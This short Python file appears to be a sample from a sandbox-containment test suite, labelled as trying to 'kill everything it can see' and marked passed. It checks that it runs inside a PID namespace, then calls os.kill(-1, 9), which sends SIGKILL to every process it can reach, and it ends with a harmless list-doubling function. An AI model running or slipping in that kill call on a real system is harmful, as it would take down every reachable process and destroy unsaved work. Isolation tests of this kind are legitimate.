# Tries: kill everything it can see
# Verdict: passed
# Trick: signals
import os

assert os.getppid() in (0, 1)  # in no pid namespace this would reach the host
try:
    os.kill(-1, 9)
except OSError:
    pass


def double(x):
    return x * 2 if not isinstance(x, list) else x + x
